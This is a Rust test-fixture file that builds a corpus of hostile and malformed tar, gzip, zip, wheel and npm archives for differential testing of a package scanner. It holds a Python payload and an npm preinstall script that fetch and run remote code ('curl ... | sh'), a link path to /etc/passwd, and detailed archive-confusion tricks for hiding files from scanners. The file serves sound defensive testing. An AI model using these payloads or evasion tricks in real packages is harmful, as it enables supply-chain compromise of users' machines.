//! A corpus of hostile and odd archives for the differential test: every case where airlock's
//! readers and the installers' extractors once read the same bytes differently (issue 14), the
//! general cases behind them, and honest archives that must still be read exactly. The builders
//! here write raw headers, so a case can say anything a header can.

#![allow(dead_code)]

use super::archives;

pub const EVIL: &[u8] = b"import os; os.system('curl -s http://203.0.113.9/x | sh')\n";
pub const BENIGN: &[u8] = b"x = 1\n";
pub const PKG_INFO: &[u8] =
    b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nLicense-Expression: MIT\n\nA fixture.\n";
pub const SETUP: &[u8] = b"from setuptools import setup\nsetup()\n";
pub const MANIFEST: &[u8] = br#"{"name":"demo","version":"1.0.0","license":"MIT"}"#;
pub const EVIL_MANIFEST: &[u8] =
    br#"{"name":"demo","version":"1.0.0","license":"MIT","scripts":{"preinstall":"curl -s http://203.0.113.9/x | sh"}}"#;

pub const POSIX: &[u8; 8] = b"ustar\x0000";
pub const GNU: &[u8; 8] = b"ustar  \x00";

/// One tar header, field by field.
#[derive(Clone)]
pub struct Header {
    pub name: Vec<u8>,
    pub size: u64,
    pub typeflag: u8,
    pub link: Vec<u8>,
    pub mode: u32,
    pub magic: [u8; 8],
    pub prefix: Vec<u8>,
    /// Written as is instead of the octal size.
    pub size_field: Option<Vec<u8>>,
}

impl Header {
    pub fn new(name: &[u8], size: u64, typeflag: u8) -> Header {
        Header {
            name: name.to_vec(),
            size,
            typeflag,
            link: Vec::new(),
            mode: 0o644,
            magic: *POSIX,
            prefix: Vec::new(),
            size_field: None,
        }
    }

    pub fn bytes(&self) -> [u8; 512] {
        fn octal(out: &mut [u8], v: u64) {
            let s = format!("{:0w$o}\0", v, w = out.len() - 1);
            out.copy_from_slice(s.as_bytes());
        }
        let mut h = [0u8; 512];
        let n = self.name.len().min(100);
        h[..n].copy_from_slice(&self.name[..n]);
        octal(&mut h[100..108], u64::from(self.mode));
        octal(&mut h[108..116], 0);
        octal(&mut h[116..124], 0);
        match &self.size_field {
            Some(f) => h[124..124 + f.len()].copy_from_slice(f),
            None => octal(&mut h[124..136], self.size),
        }
        octal(&mut h[136..148], 0);
        h[156] = self.typeflag;
        let l = self.link.len().min(100);
        h[157..157 + l].copy_from_slice(&self.link[..l]);
        h[257..265].copy_from_slice(&self.magic);
        let p = self.prefix.len().min(155);
        h[345..345 + p].copy_from_slice(&self.prefix[..p]);
        h[148..156].fill(b' ');
        let sum: u32 = h.iter().map(|b| u32::from(*b)).sum();
        h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        h
    }
}

/// One PAX record, `LEN key=value\n`, with the length that counts itself.
pub fn pax_record(key: &str, value: &[u8]) -> Vec<u8> {
    let body = key.len() + value.len() + 3;
    let mut len = body + 1;
    while len != body + len.to_string().len() {
        len = body + len.to_string().len();
    }
    let mut r = format!("{len} {key}=").into_bytes();
    r.extend_from_slice(value);
    r.push(b'\n');
    r
}

/// A tar built block by block.
#[derive(Default, Clone)]
pub struct Tar(pub Vec<u8>);

impl Tar {
    pub fn header(&mut self, h: &Header) -> &mut Self {
        self.0.extend_from_slice(&h.bytes());
        self
    }
    pub fn data(&mut self, d: &[u8]) -> &mut Self {
        self.0.extend_from_slice(d);
        while !self.0.len().is_multiple_of(512) {
            self.0.push(0);
        }
        self
    }
    pub fn file(&mut self, name: &str, data: &[u8]) -> &mut Self {
        self.header(&Header::new(name.as_bytes(), data.len() as u64, b'0'))
            .data(data)
    }
    pub fn dir(&mut self, name: &str) -> &mut Self {
        let mut h = Header::new(name.as_bytes(), 0, b'5');
        h.mode = 0o755;
        self.header(&h)
    }
    pub fn link(&mut self, typeflag: u8, name: &str, target: &str) -> &mut Self {
        let mut h = Header::new(name.as_bytes(), 0, typeflag);
        h.link = target.as_bytes().to_vec();
        self.header(&h)
    }
    pub fn pax(&mut self, typeflag: u8, records: &[(&str, &[u8])]) -> &mut Self {
        let data: Vec<u8> = records.iter().flat_map(|(k, v)| pax_record(k, v)).collect();
        self.header(&Header::new(
            b"PaxHeaders/entry",
            data.len() as u64,
            typeflag,
        ))
        .data(&data)
    }
    pub fn long(&mut self, typeflag: u8, name: &str) -> &mut Self {
        let mut data = name.as_bytes().to_vec();
        data.push(0);
        let mut h = Header::new(b"././@LongLink", data.len() as u64, typeflag);
        h.magic = *GNU;
        self.header(&h).data(&data)
    }
    pub fn zero_block(&mut self) -> &mut Self {
        self.0.extend_from_slice(&[0u8; 512]);
        self
    }
    /// The end-of-archive marker (two zero blocks); the bytes so far.
    pub fn end(&mut self) -> Vec<u8> {
        self.0.extend_from_slice(&[0u8; 1024]);
        self.0.clone()
    }
}

/// One zip entry, with every field a confusion attack plays with.
#[derive(Clone)]
pub struct Z {
    pub name: Vec<u8>,
    pub local_name: Option<Vec<u8>>,
    pub data: Vec<u8>,
    pub flags: u16,
    pub extra: Vec<u8>,
    pub unix_mode: u32,
    /// CRC and sizes in a data descriptor after the data (flag bit 3), as streaming writers do.
    pub descriptor: bool,
}

impl Z {
    pub fn new(name: &[u8], data: &[u8]) -> Z {
        Z {
            name: name.to_vec(),
            local_name: None,
            data: data.to_vec(),
            flags: 0x0800,
            extra: Vec::new(),
            unix_mode: 0o100644,
            descriptor: false,
        }
    }
}

fn crc(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

/// Stored (uncompressed) entries: local headers and data, then the central directory records,
/// each as bytes, so cases can rearrange them.
pub fn zip_parts(entries: &[Z], base: usize) -> (Vec<u8>, Vec<u8>) {
    let mut local = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let offset = (base + local.len()) as u32;
        let lname = e.local_name.as_ref().unwrap_or(&e.name);
        let flags = e.flags | if e.descriptor { 8 } else { 0 };
        let (lcrc, lsize) = if e.descriptor {
            (0, 0)
        } else {
            (crc(&e.data), e.data.len() as u32)
        };
        local.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        local.extend_from_slice(&20u16.to_le_bytes());
        local.extend_from_slice(&flags.to_le_bytes());
        local.extend_from_slice(&0u16.to_le_bytes()); // stored
        local.extend_from_slice(&[0, 0, 0x21, 0]);
        local.extend_from_slice(&lcrc.to_le_bytes());
        local.extend_from_slice(&lsize.to_le_bytes());
        local.extend_from_slice(&lsize.to_le_bytes());
        local.extend_from_slice(&(lname.len() as u16).to_le_bytes());
        local.extend_from_slice(&(e.extra.len() as u16).to_le_bytes());
        local.extend_from_slice(lname);
        local.extend_from_slice(&e.extra);
        local.extend_from_slice(&e.data);
        if e.descriptor {
            local.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
            local.extend_from_slice(&crc(&e.data).to_le_bytes());
            local.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
            local.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        }
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&[20, 3, 20, 0]);
        central.extend_from_slice(&flags.to_le_bytes());
        central.extend_from_slice(&0u16.to_le_bytes());
        central.extend_from_slice(&[0, 0, 0x21, 0]);
        central.extend_from_slice(&crc(&e.data).to_le_bytes());
        central.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        central.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        central.extend_from_slice(&(e.extra.len() as u16).to_le_bytes());
        central.extend_from_slice(&[0, 0, 0, 0, 0, 0]);
        central.extend_from_slice(&(e.unix_mode << 16).to_le_bytes());
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(&e.name);
        central.extend_from_slice(&e.extra);
    }
    (local, central)
}

pub fn eocd(count: u16, cd_size: usize, cd_offset: usize) -> Vec<u8> {
    let mut out = 0x0605_4b50u32.to_le_bytes().to_vec();
    out.extend_from_slice(&[0, 0, 0, 0]);
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&(cd_size as u32).to_le_bytes());
    out.extend_from_slice(&(cd_offset as u32).to_le_bytes());
    out.extend_from_slice(&[0, 0]);
    out
}

/// The entries with the `.dist-info` a wheel needs to be installed at all (by uv, for one).
pub fn wheel_of(entries: &[Z]) -> Vec<u8> {
    let mut all = entries.to_vec();
    all.push(Z::new(b"demo-1.0.dist-info/METADATA", PKG_INFO));
    all.push(Z::new(
        b"demo-1.0.dist-info/WHEEL",
        b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    ));
    all.push(Z::new(b"demo-1.0.dist-info/RECORD", b""));
    zip(&all)
}

pub fn zip(entries: &[Z]) -> Vec<u8> {
    let (mut out, central) = zip_parts(entries, 0);
    let at = out.len();
    out.extend_from_slice(&central);
    out.extend_from_slice(&eocd(entries.len() as u16, central.len(), at));
    out
}

/// How an archive is installed, which picks the extractors that judge it.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Kind {
    Sdist,
    /// An uncompressed tar sdist (pip takes `.tar`; the fuzzers' plain-tar corpus).
    SdistTar,
    SdistZip,
    Wheel,
    Npm,
}

impl Kind {
    pub fn label(self) -> &'static str {
        match self {
            Kind::Sdist | Kind::SdistTar => "sdist",
            Kind::SdistZip => "sdist-zip",
            Kind::Wheel => "wheel",
            Kind::Npm => "npm",
        }
    }
    pub fn file_name(self, id: &str) -> String {
        match self {
            Kind::Sdist => format!("{id}.tar.gz"),
            Kind::SdistTar => format!("{id}.tar"),
            Kind::SdistZip => format!("{id}.zip"),
            // Every case sits in its own directory, so every wheel can be the `demo` its
            // dist-info names (uv checks that they agree).
            Kind::Wheel => {
                let _ = id;
                "demo-1.0-py3-none-any.whl".into()
            }
            Kind::Npm => format!("{id}.tgz"),
        }
    }
}

/// What airlock must do with a case.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Expect {
    /// Honest: read completely, not denied, and exactly what the installers write.
    Read,
    /// Ambiguous or unsafe: denied with an `archive.*` finding.
    Deny,
    /// Either, as long as what installers write was scanned (installers may refuse it).
    Safe,
}

pub struct Case {
    pub id: &'static str,
    pub kind: Kind,
    pub expect: Expect,
    pub bytes: Vec<u8>,
}

fn case(id: &'static str, kind: Kind, expect: Expect, bytes: Vec<u8>) -> Case {
    Case {
        id,
        kind,
        expect,
        bytes,
    }
}

fn gz(tar: Vec<u8>) -> Vec<u8> {
    archives::gzip(&tar)
}

fn honest_sdist() -> Tar {
    let mut t = Tar::default();
    t.dir("demo-1.0/")
        .file("demo-1.0/PKG-INFO", PKG_INFO)
        .file("demo-1.0/setup.py", SETUP)
        .dir("demo-1.0/demo/")
        .file("demo-1.0/demo/__init__.py", BENIGN);
    t
}

/// A whole entry (header and data) as bytes, to hide inside another's data.
fn hidden_file(name: &str, data: &[u8]) -> Vec<u8> {
    let mut t = Tar::default();
    t.file(name, data);
    t.0
}

pub fn corpus() -> Vec<Case> {
    use Expect::{Deny, Read, Safe};
    use Kind::{Npm, Sdist, SdistZip, Wheel};
    let mut cases = Vec::new();

    // Honest archives, in the shapes real tools write.
    cases.push(case("honest-sdist", Sdist, Read, gz(honest_sdist().end())));
    let long = format!("demo-1.0/{}/mod.py", "d".repeat(120));
    let longer = format!("demo-1.0/{}/mod.py", "e".repeat(130));
    let mut t = Tar::default();
    t.pax(
        b'g',
        &[("comment", b"4c6f1b0d7e0b4d2c8a1e2f3a4b5c6d7e8f90a1b2")],
    )
    .dir("demo-1.0/")
    .file("demo-1.0/PKG-INFO", PKG_INFO)
    .pax(b'x', &[("path", long.as_bytes())])
    .file("demo-1.0/placeholder", BENIGN)
    .long(b'L', &longer)
    .file("demo-1.0/placeholder2", SETUP);
    cases.push(case("honest-sdist-long-names", Sdist, Read, gz(t.end())));
    let mut t = honest_sdist();
    t.file("demo-1.0/tz/GMT", b"TZif2 GMT\n")
        .link(b'1', "demo-1.0/tz/GMT0", "demo-1.0/tz/GMT")
        .link(b'2', "demo-1.0/tz/UTC", "GMT");
    cases.push(case("honest-sdist-links", Sdist, Read, gz(t.end())));
    let mut t = Tar::default();
    t.file("package/package.json", MANIFEST)
        .file("package/index.js", b"module.exports = 1\n")
        .file("package/lib/util.js", b"exports.x = 2\n");
    cases.push(case("honest-npm", Npm, Read, gz(t.end())));
    cases.push(case(
        "honest-wheel",
        Wheel,
        Read,
        archives::wheel("demo", "1.0", "x = 1\n"),
    ));
    cases.push(case(
        "honest-sdist-zip",
        SdistZip,
        Read,
        zip(&[
            Z::new(b"demo-1.0/PKG-INFO", PKG_INFO),
            Z::new(b"demo-1.0/setup.py", SETUP),
        ]),
    ));

    // tar: entries that carry no data but declare a size, hiding a header in it.
    let hidden = hidden_file("demo-1.0/evil.py", EVIL);
    let mut t = honest_sdist();
    t.header(&Header::new(b"demo-1.0/cache/", hidden.len() as u64, b'5'))
        .data(&hidden);
    cases.push(case("dir-with-size", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    let mut h = Header::new(b"demo-1.0/lnk", hidden.len() as u64, b'2');
    h.link = b"setup.py".to_vec();
    t.header(&h).data(&hidden);
    cases.push(case("symlink-with-size", Sdist, Deny, gz(t.end())));
    // PAX and GNU name sources that disagree.
    let mut t = honest_sdist();
    t.pax(b'x', &[("GNU.sparse.name", b"demo-1.0/evil.pth")])
        .file("demo-1.0/notes.txt", EVIL);
    cases.push(case("pax-sparse-name", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.long(b'L', "demo-1.0/evil.pth")
        .pax(b'x', &[("path", b"demo-1.0/readme.txt")])
        .file("demo-1.0/x", EVIL);
    cases.push(case("long-name-then-pax-path", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.pax(b'x', &[("size", b"1024")])
        .pax(b'x', &[("size", b"0")])
        .header(&Header::new(b"demo-1.0/empty.txt", 0, b'0'))
        .0
        .extend_from_slice(&hidden);
    cases.push(case("two-pax-headers", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.pax(b'x', &[("size", b"0")])
        .header(&Header::new(
            b"demo-1.0/empty.txt",
            hidden.len() as u64,
            b'0',
        ))
        .0
        .extend_from_slice(&hidden);
    cases.push(case("pax-size-disagrees", Sdist, Deny, gz(t.end())));
    let mut t = Tar::default();
    t.pax(b'g', &[("path", b"package/index.js")])
        .file("package/package.json", MANIFEST)
        .file("package/other.js", EVIL);
    cases.push(case("pax-global-path", Npm, Deny, gz(t.end())));
    // A single zero block, then more entries: node-tar reads on, tarfile stops.
    let mut t = Tar::default();
    t.file("package/package.json", MANIFEST)
        .file("package/index.js", BENIGN)
        .zero_block()
        .file("package/install.js", EVIL);
    cases.push(case("npm-zero-block-then-more", Npm, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.zero_block().file("demo-1.0/evil.py", EVIL);
    cases.push(case("sdist-zero-block-then-more", Sdist, Deny, gz(t.end())));
    // Typeflags tarfile writes as files and airlock used to skip.
    let mut t = honest_sdist();
    t.header(&Header::new(b"demo-1.0/evil.pth", EVIL.len() as u64, b'Z'))
        .data(EVIL);
    cases.push(case("unknown-typeflag", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.header(&Header::new(b"demo-1.0/evil.py", EVIL.len() as u64, b'S'))
        .data(EVIL);
    cases.push(case("gnu-sparse-entry", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    let mut h = Header::new(b"x.py", EVIL.len() as u64, b'0');
    h.magic = *GNU;
    h.prefix = b"demo-1.0/evil".to_vec();
    t.header(&h).data(EVIL);
    cases.push(case("prefix-in-gnu-header", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.header(&Header::new(b"demo-1.0/pkg/", hidden.len() as u64, 0))
        .data(&hidden);
    cases.push(case("old-style-dir-with-data", Sdist, Deny, gz(t.end())));
    let mut t = Tar::default();
    let mut h = Header::new(b"package/package.json", 0, b'0');
    h.size_field = Some(b"0000000062x\0".to_vec());
    t.file("package/index.js", BENIGN)
        .header(&h)
        .data(EVIL_MANIFEST);
    cases.push(case("size-field-not-octal", Npm, Deny, gz(t.end())));

    // gzip: a zip appended (pip asks is_zipfile first), garbage, two members, a bad CRC.
    let mut bytes = gz(honest_sdist().end());
    let offset = bytes.len();
    let (local, central) = zip_parts(
        &[
            Z::new(b"demo-1.0/PKG-INFO", PKG_INFO),
            Z::new(b"demo-1.0/setup.py", EVIL),
        ],
        offset,
    );
    let cd_at = offset + local.len();
    bytes.extend_from_slice(&local);
    bytes.extend_from_slice(&central);
    bytes.extend_from_slice(&eocd(2, central.len(), cd_at));
    cases.push(case("tar-gz-with-zip-appended", Sdist, Deny, bytes));
    let mut bytes = gz(honest_sdist().end());
    bytes.extend_from_slice(b"trailing garbage after the gzip member");
    cases.push(case("gzip-trailing-garbage", Sdist, Deny, bytes));
    let mut first = honest_sdist();
    let mut bytes = gz(first.0.clone());
    let mut second = Tar::default();
    second.file("demo-1.0/evil.py", EVIL);
    bytes.extend_from_slice(&gz(second.end()));
    first.0.clear();
    cases.push(case("two-gzip-members", Sdist, Deny, bytes));
    let mut bytes = gz(honest_sdist().end());
    let n = bytes.len();
    bytes[n - 8] ^= 0xff;
    cases.push(case("gzip-bad-crc", Sdist, Deny, bytes));

    let mut a = Z::new(b"demo/__init__.py", BENIGN);
    a.descriptor = true;
    let mut b = Z::new(b"demo/util.py", SETUP);
    b.descriptor = true;
    cases.push(case(
        "honest-wheel-data-descriptors",
        Wheel,
        Read,
        wheel_of(&[a, b]),
    ));

    // zip: a local extra field that moves an entry's data onto the next entry's (an overlap
    // that a check using the central directory's lengths alone does not see).
    let evil_b = Z::new(b"demo/b.txt", EVIL);
    let (b_local, _) = zip_parts(std::slice::from_ref(&evil_b), 0);
    let b_header = b_local[..b_local.len() - EVIL.len()].to_vec();
    let a_name = b"demo/a.py";
    let filler = vec![b'#'; EVIL.len()];
    let a = Z::new(a_name, EVIL);
    let (a_local_plain, a_central) = zip_parts(std::slice::from_ref(&a), 0);
    let mut a_head = a_local_plain[..30 + a_name.len()].to_vec();
    let extra_len = (filler.len() + b_header.len()) as u16;
    a_head[28..30].copy_from_slice(&extra_len.to_le_bytes());
    let mut bytes = a_head.clone();
    bytes.extend_from_slice(&filler);
    let b_offset = bytes.len();
    bytes.extend_from_slice(&b_header);
    bytes.extend_from_slice(EVIL);
    let (_, b_central) = zip_parts(std::slice::from_ref(&evil_b), b_offset);
    let at = bytes.len();
    bytes.extend_from_slice(&a_central);
    bytes.extend_from_slice(&b_central);
    bytes.extend_from_slice(&eocd(2, a_central.len() + b_central.len(), at));
    cases.push(case("zip-local-extra-overlap", Wheel, Deny, bytes));

    // zip: two central directories (Python's offset fix-up reads the second).
    let (b_local, b_central) = zip_parts(&[Z::new(b"demo/__init__.py", b"x = 11  \n")], 0);
    let (e_local, e_central) = zip_parts(&[Z::new(b"demo/__init__.py", b"import os")], 0);
    assert_eq!(b_local.len(), e_local.len());
    let mut bytes = b_local.clone();
    bytes.extend_from_slice(&b_central);
    bytes.extend_from_slice(&e_local);
    bytes.extend_from_slice(&e_central);
    bytes.extend_from_slice(&eocd(1, b_central.len(), b_local.len()));
    cases.push(case("zip-two-central-directories", Wheel, Deny, bytes));
    cases.push(case(
        "zip-nul-in-name",
        Wheel,
        Deny,
        wheel_of(&[
            Z::new(b"demo/__init__.py", BENIGN),
            Z::new(b"evil.pth\0.txt", EVIL),
        ]),
    ));
    let mut cp437 = Z::new(b"demo/\x82vil.py", EVIL);
    cp437.flags = 0;
    cases.push(case(
        "zip-cp437-name",
        Wheel,
        Deny,
        wheel_of(&[Z::new(b"demo/__init__.py", BENIGN), cp437]),
    ));
    let mut other = Z::new(b"demo/__init__.py", EVIL);
    other.local_name = Some(b"demo/__init__.pz".to_vec());
    cases.push(case(
        "zip-local-name-differs",
        Wheel,
        Deny,
        wheel_of(&[other]),
    ));
    let mut unicode = Z::new(b"demo/readme.txt", EVIL);
    let mut extra = 0x7075u16.to_le_bytes().to_vec();
    let path = b"evil.pth";
    extra.extend_from_slice(&((path.len() + 5) as u16).to_le_bytes());
    extra.push(1);
    extra.extend_from_slice(&crc(b"demo/readme.txt").to_le_bytes());
    extra.extend_from_slice(path);
    unicode.extra = extra;
    cases.push(case(
        "zip-unicode-path-field",
        Wheel,
        Deny,
        wheel_of(&[unicode]),
    ));
    cases.push(case(
        "wheel-backslash-name",
        Wheel,
        Deny,
        wheel_of(&[
            Z::new(b"demo/__init__.py", BENIGN),
            Z::new(b"tests\\evil.pth", EVIL),
        ]),
    ));
    // The directory counts one entry but holds two: Python's zipfile reads both.
    let (mut bytes, central) = zip_parts(
        &[
            Z::new(b"demo/__init__.py", BENIGN),
            Z::new(b"evil.pth", EVIL),
        ],
        0,
    );
    let at = bytes.len();
    bytes.extend_from_slice(&central);
    bytes.extend_from_slice(&eocd(1, central.len(), at));
    cases.push(case(
        "zip-directory-holds-more-than-counted",
        Wheel,
        Deny,
        bytes,
    ));
    // A local entry the central directory does not list, between two that it does.
    let (l1, _) = zip_parts(&[Z::new(b"demo/__init__.py", BENIGN)], 0);
    let (hidden_local, _) = zip_parts(&[Z::new(b"evil.pth", EVIL)], 0);
    let (l2, _) = zip_parts(&[Z::new(b"demo/b.py", BENIGN)], 0);
    let (_, c1) = zip_parts(&[Z::new(b"demo/__init__.py", BENIGN)], 0);
    let (_, c2) = zip_parts(
        &[Z::new(b"demo/b.py", BENIGN)],
        l1.len() + hidden_local.len(),
    );
    let mut bytes = [l1.clone(), hidden_local, l2].concat();
    let at = bytes.len();
    bytes.extend_from_slice(&c1);
    bytes.extend_from_slice(&c2);
    bytes.extend_from_slice(&eocd(2, c1.len() + c2.len(), at));
    cases.push(case("zip-unlisted-local-entry", Wheel, Deny, bytes));
    cases.push(case(
        "zip-directory-with-data",
        Wheel,
        Deny,
        wheel_of(&[
            Z::new(b"demo/__init__.py", BENIGN),
            Z::new(b"demo/sub/", EVIL),
        ]),
    ));

    // npm: two package roots (pacote's strip: 1 writes both onto package/).
    let mut t = Tar::default();
    t.file("package/package.json", MANIFEST)
        .file("package/index.js", BENIGN)
        .file("other/package.json", EVIL_MANIFEST);
    cases.push(case("npm-two-roots", Npm, Deny, gz(t.end())));
    let mut t = Tar::default();
    t.file("./package/package.json", MANIFEST)
        .file("package.json", EVIL_MANIFEST);
    cases.push(case("npm-dot-and-bare-names", Npm, Deny, gz(t.end())));

    // Links: a chain that climbs out, a PAX linkpath behind a harmless linkname, a write through
    // a symlink, a hard link to a file that comes later.
    let mut t = honest_sdist();
    t.link(b'2', "demo-1.0/a", ".")
        .link(b'2', "demo-1.0/a/b", "..")
        .link(b'2', "demo-1.0/a/b/d", "..")
        .file("demo-1.0/a/b/d/x.py", EVIL);
    cases.push(case("symlink-chain", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.pax(b'x', &[("linkpath", b"../../../../../../etc/passwd")])
        .link(b'2', "demo-1.0/harmless", "setup.py");
    cases.push(case(
        "pax-linkpath-behind-linkname",
        Sdist,
        Deny,
        gz(t.end()),
    ));
    let mut t = honest_sdist();
    t.dir("demo-1.0/sub/")
        .link(b'2', "demo-1.0/lnk", "sub")
        .file("demo-1.0/lnk/evil.py", EVIL);
    cases.push(case("write-through-symlink", Sdist, Deny, gz(t.end())));
    let mut t = honest_sdist();
    t.link(b'1', "demo-1.0/demo/hook.pth", "demo-1.0/later.txt")
        .file("demo-1.0/later.txt", EVIL);
    // Python's tarfile refuses a hard link to a later file; airlock scans it under its name.
    cases.push(case("hard-link-forward", Sdist, Safe, gz(t.end())));
    // A symlink to a file later in the archive (pdm-backend's sdist has one), and one to a file
    // the archive does not have.
    let mut t = honest_sdist();
    t.link(b'2', "demo-1.0/demo/alias.toml", "../pyproject.toml")
        .file("demo-1.0/pyproject.toml", b"[project]\nname = 'demo'\n");
    cases.push(case(
        "honest-sdist-forward-symlink",
        Sdist,
        Read,
        gz(t.end()),
    ));
    let mut t = honest_sdist();
    t.link(b'2', "demo-1.0/demo/missing.py", "gone.py");
    cases.push(case("dangling-symlink", Sdist, Safe, gz(t.end())));
    let mut t = honest_sdist();
    t.link(b'2', "demo-1.0/demo/a.py", "b.py")
        .link(b'2', "demo-1.0/demo/b.py", "__init__.py");
    cases.push(case("symlink-to-symlink", Sdist, Safe, gz(t.end())));

    // Name and content that disagree on the format.
    cases.push(case(
        "zip-named-tar-gz",
        Sdist,
        Deny,
        zip(&[
            Z::new(b"demo-1.0/PKG-INFO", PKG_INFO),
            Z::new(b"demo-1.0/setup.py", EVIL),
        ]),
    ));
    cases
}
